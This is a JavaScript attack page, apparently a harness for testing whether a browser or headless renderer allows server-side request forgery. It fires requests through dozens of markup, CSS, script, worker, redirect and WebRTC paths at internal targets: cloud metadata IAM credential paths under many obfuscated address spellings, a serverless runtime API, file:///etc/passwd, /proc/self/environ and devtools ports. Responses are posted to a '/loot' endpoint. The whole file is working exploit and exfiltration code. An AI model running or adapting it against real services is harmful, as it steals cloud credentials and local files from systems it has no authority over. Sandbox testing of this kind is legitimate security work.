// Every way by which a page can ask, to every target. A way's name is in its request, so that
// whoever is asked can say by which way.
const PATIENCE = 3000;
const tried = new Set();
const tell = text => text && fetch(SITE + '/loot', {method: 'POST', mode: 'no-cors', body: String(text)}).catch(() => 0);
const withWay = (url, way) => { tried.add(way); return url + (url.includes('?') ? '&' : '?') + 'way=' + way; };
const hidden = tag => { const e = document.createElement(tag); e.style.cssText = 'width:20px;height:20px'; return e; };
const frame = attributes => { const f = hidden('iframe'); Object.assign(f, attributes); document.body.append(f); return f; };
const attempt = f => { try { return Promise.resolve(f()).catch(() => 0); } catch { return Promise.resolve(); } };

// What markup asks for as it is parsed.
const MARKUP = {
  'img': u => `<img src="${u}">`,
  'img-cors': u => `<img crossorigin src="${u}">`,
  'img-srcset': u => `<img srcset="${u} 1x">`,
  'picture': u => `<picture><source srcset="${u}"><img></picture>`,
  'input-image': u => `<input type=image src="${u}">`,
  'body-background': u => `<table background="${u}"><tr><td>x</table>`,
  'script': u => `<script src="${u}"><\/script>`,
  'script-module': u => `<script type=module src="${u}"><\/script>`,
  'script-import': u => `<script type=module>import "${u}"<\/script>`,
  'stylesheet': u => `<link rel=stylesheet href="${u}">`,
  'preload-script': u => `<link rel=preload as=script href="${u}">`,
  'preload-fetch': u => `<link rel=preload as=fetch crossorigin href="${u}">`,
  'preload-image': u => `<link rel=preload as=image imagesrcset="${u}">`,
  'preload-font': u => `<link rel=preload as=font crossorigin href="${u}">`,
  'modulepreload': u => `<link rel=modulepreload href="${u}">`,
  'prefetch': u => `<link rel=prefetch href="${u}">`,
  'preconnect': u => `<link rel=preconnect href="${u}">`,
  'dns-prefetch': u => `<link rel=dns-prefetch href="${u}">`,
  'prerender': u => `<link rel=prerender href="${u}">`,
  'manifest': u => `<link rel=manifest href="${u}">`,
  'icon': u => `<link rel=icon href="${u}"><link rel=apple-touch-icon href="${u}">`,
  'dictionary': u => `<link rel=compression-dictionary href="${u}">`,
  'object': u => `<object data="${u}"></object>`,
  'object-pdf': u => `<object type="application/pdf" data="${u}"></object>`,
  'embed': u => `<embed src="${u}">`,
  'embed-pdf': u => `<embed type="application/pdf" src="${u}">`,
  'iframe': u => `<iframe src="${u}"></iframe>`,
  'iframe-sandbox': u => `<iframe sandbox src="${u}"></iframe>`,
  'video': u => `<video preload=auto src="${u}"></video>`,
  'video-source': u => `<video preload=auto><source src="${u}"></video>`,
  'poster': u => `<video poster="${u}"></video>`,
  'audio': u => `<audio preload=auto src="${u}"></audio>`,
  'track': u => `<video crossorigin src="${SITE}/none"><track default kind=captions src="${u}"></video>`,
  'svg-image': u => `<svg><image href="${u}"/></svg>`,
  'svg-use': u => `<svg><use href="${u}#x"/></svg>`,
  'svg-feimage': u => `<svg><filter id=f><feImage href="${u}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  'svg-script': u => `<svg><script href="${u}"/></svg>`,
  'css-background': u => `<p style="background:url(${u})">x`,
  'css-content': u => `<style>b::before{content:url(${u})}</style><b>x</b>`,
  'css-list': u => `<li style="list-style:url(${u})">x`,
  'css-cursor': u => `<p style="cursor:url(${u}),auto">x`,
  'css-border': u => `<p style="border:9px solid;border-image:url(${u}) 3">x`,
  'css-mask': u => `<p style="mask-image:url(${u})">x`,
  'css-filter': u => `<p style="filter:url(${u}#f)">x`,
  'css-clip': u => `<p style="clip-path:url(${u}#f)">x`,
  'css-shape': u => `<p style="float:left;shape-outside:url(${u})">x`,
  'css-image-set': u => `<p style="background:image-set('${u}' 1x)">x`,
  'css-import': u => `<style>@import "${u}";</style>`,
  'css-font': u => `<style>@font-face{font-family:f;src:url(${u})}</style><p style="font-family:f">x`,
  'speculation': u => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${u}"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${u}&pre"],"eagerness":"immediate"}]}<\/script>`,
};

// What leads a frame elsewhere.
const LEAVING = {
  'location': u => `<script>location="${u}"<\/script>`,
  'location-replace': u => `<script>location.replace("${u}")<\/script>`,
  'refresh': u => `<meta http-equiv=refresh content="0;url=${u}">`,
  'form-get': u => `<form action="${u}"><input name=way value=form-get></form><script>document.forms[0].submit()<\/script>`,
  'form-post': u => `<form method=post action="${u}"></form><script>document.forms[0].submit()<\/script>`,
  'click': u => `<a href="${u}">x</a><script>document.links[0].click()<\/script>`,
  'download': u => `<a download href="${u}">x</a><script>document.links[0].click()<\/script>`,
  'ping': u => `<a ping="${u}" href="${SITE}/none">x</a><script>document.links[0].click()<\/script>`,
  'open': u => `<script>open("${u}")<\/script>`,
  'beacon-at-end': u => `<script>onpagehide=()=>navigator.sendBeacon("${u}","x");setTimeout(()=>location="about:blank",500)<\/script>`,
};

// What scripts ask for.
const read = (u, options) => fetch(u, options).then(r => r.text()).then(tell);
const SCRIPTED = {
  'fetch': u => read(u),
  'fetch-no-cors': u => fetch(u, {mode: 'no-cors'}),
  'fetch-post': u => read(u, {method: 'POST', headers: {'x-any': '1'}, body: 'x'}),
  'fetch-keepalive': u => fetch(u, {keepalive: true}).then(r => r.text()).then(tell),
  'fetch-credentials': u => read(u, {credentials: 'include'}),
  'fetch-target': u => read(u, {targetAddressSpace: 'local'}),
  'fetch-later': u => window.fetchLater?.(u, {activateAfter: 0}),
  'xhr': u => new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', u); x.onloadend = () => done(tell(x.responseText)); x.send(); }),
  'xhr-sync': u => { const x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); tell(x.responseText); },
  'beacon': u => navigator.sendBeacon(u, 'x'),
  'eventsource': u => { new EventSource(u); },
  'websocket': u => { new WebSocket(u.replace('http', 'ws')); },
  'websocket-stream': u => { new WebSocketStream(u.replace('http', 'ws')).opened.catch(() => 0); },
  'webtransport': u => new WebTransport(u.replace('http:', 'https:')).ready,
  'image-object': u => { new Image().src = u; },
  'audio-object': u => { new Audio(u).load(); },
  'font-object': u => new FontFace('g', `url(${u})`).load(),
  'import': u => import(u),
  'worker-direct': u => { new Worker(u); },
  'audio-worklet': u => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(u),
  'paint-worklet': u => CSS.paintWorklet.addModule(u),
  'shared-storage-worklet': u => window.sharedStorage?.worklet.addModule(u),
  'cache': u => caches.open('c').then(c => c.add(u)),
  'background-fetch': u => navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('b', [u])),
  'payment': u => new PaymentRequest([{supportedMethods: u}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment(),
  'fedcm': u => navigator.credentials.get({identity: {providers: [{configURL: u, clientId: 'x'}]}}),
  'notification': u => { new Notification('x', {icon: u}); },
  'media-session': u => { navigator.mediaSession.metadata = new MediaMetadata({title: 'x', artwork: [{src: u}]}); },
  'canvas': u => new Promise(done => {
    const i = new Image();
    i.onload = () => { const c = document.createElement('canvas'); c.getContext('2d').drawImage(i, 0, 0); done(tell(c.toDataURL())); };
    i.onerror = done; i.src = u;
  }),
  'xslt': u => { frame({src: URL.createObjectURL(new Blob([`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${u.replaceAll('&', '&amp;')}"?><x/>`], {type: 'text/xml'}))}); },
  'xml-entity': u => { frame({src: URL.createObjectURL(new Blob([`<!DOCTYPE x [<!ENTITY e SYSTEM "${u.replaceAll('&', '&amp;')}">]><x>&e;</x>`], {type: 'text/xml'}))}); },
  'fenced-frame': u => { const f = document.createElement('fencedframe'); document.body.append(f); f.config = new FencedFrameConfig(u); },
  'portal': u => { const p = document.createElement('portal'); p.src = u; document.body.append(p); },
};

function servers(host, port) {
  return [`stun:${host}:3478`, `stun:${host}:${port}`, `turn:${host}:3478?transport=udp`, `turn:${host}:${port}?transport=tcp`, `turns:${host}:443?transport=tcp`];
}

// WebRTC: servers, and a peer whose candidates are the targets themselves.
async function webRtc(host, port) {
  const iceServers = servers(host, port).map(urls => ({urls, username: 'x', credential: 'x'}));
  const a = new RTCPeerConnection({iceServers}), b = new RTCPeerConnection();
  a.createDataChannel('x');
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  const bare = host.replace(/[[\]]/g, '');
  for (const [kind, address] of [['udp', bare], ['tcp', bare], ['udp', 'b1946ac9-4931-4a2b-9a6b-1c2d3e4f5a6b.local'], ['udp', 'metadata.test']]) {
    const passive = kind === 'tcp' ? ' tcptype passive' : '';
    attempt(() => a.addIceCandidate({candidate: `candidate:1 1 ${kind} 2130706431 ${address} ${port} typ host${passive}`, sdpMid: '0'}));
  }
}

// Spellings of an address that readers may read differently.
const META = '/latest/meta-data/iam/security-credentials/role', RUN = '/2018-06-01/runtime/invocation/next';
const SPELLINGS = [
  ...['2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '169.16689662', '169.254.169.254.', 'x:y@169.254.169.254',
    '１６９.２５４.１６９.２５４', '①⑥⑨.②⑤④.①⑥⑨.②⑤④', '169。254。169。254', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[::a9fe:a9fe]',
    '[64:ff9b::a9fe:a9fe]', '[64:ff9b:1::a9fe:a9fe]', '[2002:a9fe:a9fe::1]', '%31%36%39.254.169.254', 'metadata.test', 'metadata.test.', 'METADATA.TEST',
    'hostile.test@169.254.169.254', 'private.test'].map(h => `http://${h}${META}`),
  ...['2130706433', '0x7f.1', '0177.0.0.1', '127.1', '0', '0.0.0.0', '[::]', 'localhost', 'localhost.', 'x.localhost', 'runtime.test', '[::ffff:7f00:1]',
    '127.0.0.2', '[::1]'].map(h => `http://${h}:9001${RUN}`),
];

// Schemes that lead to the machine itself.
const SCHEMES = ['file:///etc/passwd', 'FILE:///proc/self/environ', 'view-source:file:///etc/passwd', 'view-source:http://127.0.0.1:9001' + RUN,
  'filesystem:http://127.0.0.1:9001/temporary/x', 'chrome://version', 'chrome://net-internals', 'devtools://devtools/bundled/inspector.html',
  'chrome-untrusted://x', 'about:srcdoc', 'ftp://10.1.2.3/', 'gopher://10.1.2.3:80/', 'blob:http://127.0.0.1:9001/x', 'ws://127.0.0.1:9222/devtools/browser', 'cast:x', 'intent://10.1.2.3/'];

const STATUSES = [301, 302, 303, 307, 308];
const FIELDS = ['link', 'csp', 'reports', 'refresh'];
const WORKERS = {
  'worker': u => new Worker(u), 'module-worker': u => new Worker(u, {type: 'module'}),
  'shared-worker': u => new SharedWorker(u), 'service-worker': u => navigator.serviceWorker.register(u, {scope: '/w/' + Math.random()}),
};

function attackTarget(name, target) {
  const all = [];
  frame({srcdoc: '<base target=_self>' + Object.entries(MARKUP).map(([way, html]) => html(withWay(target, way))).join('\n')});
  // A capture of more than 400 frames fails for that alone: IPv6 is tried by all ways but these.
  const frames = !name.endsWith('6');
  if (frames) for (const [way, html] of Object.entries(LEAVING)) frame({srcdoc: html(withWay(target, way))});
  for (const [way, f] of Object.entries(SCRIPTED)) all.push(attempt(() => f(withWay(target, way))));
  for (const status of STATUSES) {
    const to = way => `${SITE}/to?status=${status}&more=${status === 302 ? 3 : 0}&u=${encodeURIComponent(withWay(target, way + '-' + status))}`;
    all.push(attempt(() => read(to('redirect-fetch'))));
    new Image().src = to('redirect-img');
    if (status % 2) navigator.sendBeacon(to('redirect-beacon'), 'x');
  }
  if (frames) frame({src: `${SITE}/to?status=302&more=0&u=${encodeURIComponent(withWay(target, 'redirect-frame'))}`});
  if (frames) for (const field of FIELDS) frame({src: `${SITE}/fields?field=${field}&u=${encodeURIComponent(withWay(target, 'field-' + field))}`});
  for (const [kind, make] of Object.entries(WORKERS)) all.push(attempt(() => make(`${SITE}/worker.js?kind=${kind}&u=${encodeURIComponent(target)}`)));
  const place = new URL(target);
  all.push(attempt(() => webRtc(place.hostname, place.port || 80)));
  return all;
}

function attackAll() {
  const all = [];
  for (let i = 0; i < 3; i++) frame({src: `http://r${i}-${Math.random().toString(36).slice(2)}.rebind.test/rebound.html`});
  for (const [name, target] of Object.entries(TARGETS)) all.push(...attackTarget(name, target));
  for (const url of SPELLINGS) {
    all.push(attempt(() => read(withWay(url, 'spelled-fetch'))));
    new Image().src = withWay(url, 'spelled-img');
    try { new WebSocket(withWay(url, 'spelled-websocket').replace('http', 'ws')); } catch {}
  }
  for (const url of SCHEMES) {
    frame({src: url});
    attempt(() => open(url));
    all.push(attempt(() => read(url)));
    attempt(() => { new Worker(url); });
  }
  for (const port of [9222, 9229, ...LISTENERS]) {
    all.push(attempt(() => read(`http://127.0.0.1:${port}/json/version`)));
    all.push(attempt(() => read(`http://localhost:${port}/json/list`)));
    attempt(() => { new WebSocket(`ws://127.0.0.1:${port}/devtools/browser`); });
  }
  return all;
}

function readFrames() {
  for (const f of document.querySelectorAll('iframe, object, embed')) {
    attempt(() => { const text = f.contentDocument.body.innerText; if (/secret|root:/.test(text)) tell(text); });
  }
}

const patience = new Promise(done => setTimeout(done, PATIENCE));
const run = () => Promise.all([patience, Promise.race([patience, Promise.allSettled(attackAll())])]).then(() => {
  readFrames();
  window.attacked = true;
  fetch(SITE + '/done', {method: 'POST', mode: 'no-cors', body: JSON.stringify([...tried])}).catch(() => 0);
});
document.body ? run() : addEventListener('DOMContentLoaded', run);
